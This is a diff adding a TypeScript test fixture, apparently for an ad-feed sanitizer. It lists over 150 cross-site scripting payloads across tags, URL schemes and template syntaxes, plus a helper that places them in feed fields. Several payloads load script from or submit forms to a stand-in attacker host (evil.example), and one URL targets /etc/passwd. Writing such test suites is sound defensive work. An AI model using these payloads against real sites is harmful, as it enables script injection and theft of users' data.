@@ -1,0 +1,211 @@
+/** What every payload tries to do: a page in which it ran has this property. */
+export const HIT = 'hit';
+
+const run = 'window.hit=1';
+
+const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart'];
+
+/** Elements that run a handler by themselves, or when they are touched. */
+const withHandlers = [
+  `<img src=x onerror=${run}>`,
+  `<img/src=x/onerror=${run}//`,
+  `<IMG SRC=x OnErRoR=${run}>`,
+  `<img src=x onerror="${run}"`,
+  `<img src=x:x onerror\u000b=${run}>`,
+  `<img src=x\u0000 onerror=${run}>`,
+  `<img src='x'onerror=${run}>`,
+  `<img srcset=x onerror=${run}>`,
+  `<image src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg/onload=${run}>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${run} attributename=x>`,
+  `<svg><image href=x onerror=${run}>`,
+  `<svg><style><img src=x onerror=${run}></style>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x`,
+  `<video src=x onerror=${run}>`,
+  `<video><source onerror=${run}>`,
+  `<audio src=x onerror=${run}>`,
+  `<body onload=${run}>`,
+  `<body onpageshow=${run}>`,
+  `<html onmousemove=${run}>`,
+  `<iframe onload=${run}>`,
+  `<iframe srcdoc="<script>parent.hit=1</script>">`,
+  `<object data=x onerror=${run}>`,
+  `<embed src=x onload=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}>`,
+  `<textarea autofocus onfocus=${run}>`,
+  `<keygen autofocus onfocus=${run}>`,
+  `<button autofocus onfocus=${run}>x</button>`,
+  `<details open ontoggle=${run}>`,
+  `<dialog open onclose=${run}>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<div onpointerrawupdate=${run}>x</div>`,
+  `<div contenteditable autofocus onfocus=${run}>`,
+  `<div popover id=p onbeforetoggle=${run}><button popovertarget=p>`,
+  `<style onload=${run}></style>`,
+  `<link rel=stylesheet href=x onerror=${run}>`,
+  `<x id=x tabindex=1 onfocusin=${run}>#x`,
+  `<a href=# onclick=${run}>x</a>`,
+  `<table background=javascript:${run}><td onmouseenter=${run}>x`,
+  `<isindex type=image src=1 onerror=${run}>`,
+  `<frameset onload=${run}>`,
+  `<meter onmouseover=${run}>0</meter>`,
+];
+
+/** Scripts as elements. */
+const scripts = [
+  `<script>${run}</script>`,
+  `<SCRIPT>${run}</SCRIPT>`,
+  `<script >${run}</script >`,
+  `<script\n>${run}</script>`,
+  `<script/x>${run}</script>`,
+  `<script src=data:,${run}></script>`,
+  '<script src=//evil.example/x.js></script>',
+  `<script type=module>${run}</script>`,
+  `<script type=text/javascript>${run}</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<<script>script>${run}<</script>/script>`,
+  `<script>${run}//`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `</strong><script>${run}</script>`,
+  `--><script>${run}</script>`,
+  `]]><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</style><script>${run}</script>`,
+  `</template><script>${run}</script>`,
+  `</noscript><script>${run}</script>`,
+  `</a><script>${run}</script>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><script href=data:,${run} />`,
+  `<math><script>${run}</script></math>`,
+  `<xmp><script>${run}</script></xmp>`,
+  `<plaintext><script>${run}</script>`,
+  `<!--[if IE]><script>${run}</script><![endif]-->`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<!--\u003e<img src=x onerror=${run}> --!>`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `<?xml version="1.0"?><script>${run}</script>`,
+  `<b><script>${run}</script></b>`,
+  `<strong><em><i><script>${run}`,
+];
+
+/** Addresses that are programs. */
+const addresses = [
+  `javascript:${run}`,
+  `JAVASCRIPT:${run}`,
+  `JaVaScRiPt:${run}`,
+  ` javascript:${run}`,
+  `\u0001javascript:${run}`,
+  `\tjavascript:${run}`,
+  `java\tscript:${run}`,
+  `java\nscript:${run}`,
+  `java\rscript:${run}`,
+  `javascript\t:${run}`,
+  `javascript://evil.example/%0A${run}`,
+  `javascript:/*https://*/${run}`,
+  `javascript:void(${run})`,
+  `jav&#x61;script:${run}`,
+  `&#106;avascript:${run}`,
+  `javascript&colon;${run}`,
+  `javascript&#58;${run}`,
+  `vbscript:${run}`,
+  `livescript:${run}`,
+  `data:text/html,<script>parent.hit=1</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
+  `data:,${run}`,
+  `blob:https://evil.example/x`,
+  `filesystem:https://evil.example/x`,
+  `view-source:javascript:${run}`,
+  `feed:javascript:${run}`,
+  `about:blank`,
+  `file:///etc/passwd`,
+  `http://evil.example/`,
+  `//user:password@evil.example/`,
+  `https://user@evil.example/`,
+  `https:\\\\evil.example"onmouseover=${run}`,
+  `https:evil.example`,
+  `\\\\evil.example\\x`,
+  `/x/`,
+  `?x`,
+  `#x`,
+  `https://`,
+  `https://[`,
+  `https://evil.example" onload="${run}`,
+  `https://evil.example' onerror='${run}`,
+  `https://evil.example/><script>${run}</script>`,
+  `//evil.example/"onerror=${run} x="`,
+];
+
+/** Allowed elements that bring something along. */
+const attributes = [
+  ...events.map((event) => `<b ${event}=${run}>x</b>`),
+  `<strong style="background:url(javascript:${run})">x</strong>`,
+  `<em style=animation-name:x onanimationend=${run}>x</em>`,
+  `<i style="position:fixed;inset:0;z-index:9999">x</i>`,
+  `<br onmouseover=${run}>`,
+  `<b id=main-content class=ad-slot>x</b>`,
+  `<b name=body data-services=ads>x</b>`,
+  `<strong is=x-evil>x</strong>`,
+  `<b xml:base="javascript:${run}//">x</b>`,
+  `<i contenteditable autofocus tabindex=0 onfocus=${run}>x</i>`,
+];
+
+/** Other languages' places for code, and texts that are meant to break programs. */
+const others = [
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `<%= ${run} %>`,
+  `#{${run}}`,
+  `";${run};//`,
+  `');${run};//`,
+  '<form action=//evil.example><input name=ad><button>x',
+  '<form id=a><input name=attributes><input name=childNodes><input name=nodeType>',
+  '<base href=//evil.example/>',
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  '<style>*{display:none}</style>',
+  '<a href=//evil.example ping=//evil.example>x</a>',
+  `${'<b>'.repeat(5000)}x`,
+  `${'<div>'.repeat(5000)}<img src=x onerror=${run}>`,
+];
+
+/** At least 150 ways in which a text from outside may try to become a program. */
+export const payloads: readonly string[] = [
+  ...withHandlers,
+  ...scripts,
+  ...addresses,
+  ...attributes,
+  ...others,
+];
+
+/** The fields of the feed that come from outside. */
+export const feedFields = [
+  'company',
+  'description',
+  'image',
+  'statlink',
+  'statimp',
+  'pixel',
+  'timestamp',
+] as const;
+
+/** A feed's reply with one field replaced. */
+export function replyWith(field: (typeof feedFields)[number], value: unknown): string {
+  const sound = {
+    company: 'Company',
+    description: 'Does <em>something</em>.',
+    image: 'https://ads.example/picture.png',
+    statlink: 'https://ads.example/go',
+    statimp: '//ads.example/shown',
+    pixel: 'https://pixel.example/1?t=[timestamp]||https://pixel.example/2',
+    timestamp: '1700000000',
+  };
+  return JSON.stringify({ ads: [{ ...sound, [field]: value }] });
+}
